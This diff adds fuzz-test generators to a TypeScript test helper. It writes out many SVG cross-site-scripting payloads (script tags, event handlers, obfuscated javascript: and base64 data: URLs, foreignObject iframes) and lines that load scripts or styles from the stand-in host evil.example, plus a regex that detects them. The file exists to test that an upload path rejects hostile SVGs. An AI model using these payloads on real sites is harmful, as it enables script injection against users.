@@ -256,3 +256,69 @@ export function embeddedIPv4CallbackUrl(f: Fuzz): string {
   const port = f.r() < 0.5 ? `:${1 + f.int(65535)}` : "";
   return `${f.pick(["http", "https", "HTTPS"])}://${host}${port}/${f.pick(["", "hook", "latest/meta-data", "a/../b"])}${f.r() < 0.3 ? "?x=1" : ""}`;
 }
+
+// --- SVG with active content ---------------------------------------------------------------------
+
+const SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
+const XHTML_NS = 'xmlns="http://www.w3.org/1999/xhtml"';
+const JS = [
+  "javascript:alert(1)",
+  " JaVaScRiPt:alert(1)",
+  "&#106;avascript:alert(1)",
+  "java&#x09;script:alert(1)",
+];
+
+/** Pieces of SVG that make it active: each an svg body, or a whole document (leading `<`? or `<!`). */
+const ACTIVE_SVG_PARTS: ((f: Pick<Fuzz, "pick">) => string)[] = [
+  (f) =>
+    f.pick([
+      "<script>alert(1)</script>",
+      "<script><![CDATA[alert(1)]]></script>",
+      "<SCRIPT>alert(1)</SCRIPT>",
+    ]),
+  () => '<svg:script xmlns:svg="http://www.w3.org/2000/svg" href="https://evil.example/x.js"/>',
+  () => `<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>`,
+  (f) => `<rect ${f.pick(["onload", "onclick", "OnMouseOver", "onfocusin"])}="alert(1)"/>`,
+  () => '<animate attributeName="x" onbegin="alert(1)" dur="1s"/>',
+  (f) => `<a href="${f.pick(JS)}"><rect width="9" height="9"/></a>`,
+  (f) => `<a xlink:href='${f.pick(JS)}'><text>x</text></a>`,
+  (f) =>
+    `<image ${f.pick(["href", "xlink:href"])}="${f.pick([
+      "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
+      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+      "https://evil.example/pixel.png",
+      "//evil.example/pixel.png",
+    ])}"/>`,
+  () =>
+    `<foreignObject width="9" height="9"><body ${XHTML_NS}><img src="x" onerror="alert(1)"/></body></foreignObject>`,
+  () => `<foreignObject><iframe ${XHTML_NS} src="javascript:alert(1)"/></foreignObject>`,
+  (f) => `<use ${f.pick(["href", "xlink:href"])}="https://evil.example/sprite.svg#icon"/>`,
+  () => '<filter id="f"><feImage href="https://evil.example/x.svg"/></filter>',
+  (f) =>
+    `<a><${f.pick(["set", "animate"])} attributeName="${f.pick(["href", "xlink:href"])}" to="javascript:alert(1)" values="javascript:alert(1)"/><rect/></a>`,
+  (f) =>
+    `<style>${f.pick(['@import "https://evil.example/x.css";', "rect{fill:url(https://evil.example/p#x)}", "rect{fill:\\75rl(//evil.example/x)}"])}</style>`,
+  () =>
+    '<rect style="background-image:url(&quot;https://evil.example/x&quot;)" filter="url(https://evil.example/f#f)"/>',
+  () => `<x:embed xmlns:x="http://www.w3.org/1999/xhtml" src="https://evil.example/x.swf"/>`,
+  () => `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg ${SVG_NS}>&x;</svg>`,
+  () => `<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?><svg ${SVG_NS}><rect/></svg>`,
+];
+
+/**
+ * An SVG icon with active content, base64 (a NamedFile's content), in one of many forms: script
+ * elements (CDATA, upper case, prefixed, XHTML), event handlers, javascript:/data:/external URLs in
+ * href/xlink:href (entity-encoded, mixed case), foreignObject, animated hrefs, CSS that loads,
+ * XHTML embeds, entity definitions, a stylesheet instruction. An upload must refuse every one.
+ */
+export function hostileSvg(f: Pick<Fuzz, "pick">): string {
+  const part = f.pick(ACTIVE_SVG_PARTS)(f);
+  const prolog = f.pick(["", '<?xml version="1.0" encoding="UTF-8"?>\n', "<!-- icon -->\n", "  \n"]);
+  const doc =
+    part.startsWith("<!") || part.startsWith("<?") ? part : `<svg ${SVG_NS} viewBox="0 0 9 9">${part}</svg>`;
+  return Buffer.from(prolog + doc).toString("base64");
+}
+
+/** Stored SVG text that holds active content (what {@link hostileSvg} plants, found by text). */
+export const ACTIVE_SVG_TEXT =
+  /<(\w+:)?script|&#|\son\w+\s*=|javascript|data:|foreignObject|xml-stylesheet|<!ENTITY|@import|evil\.example|<\w+:(embed|iframe)/i;
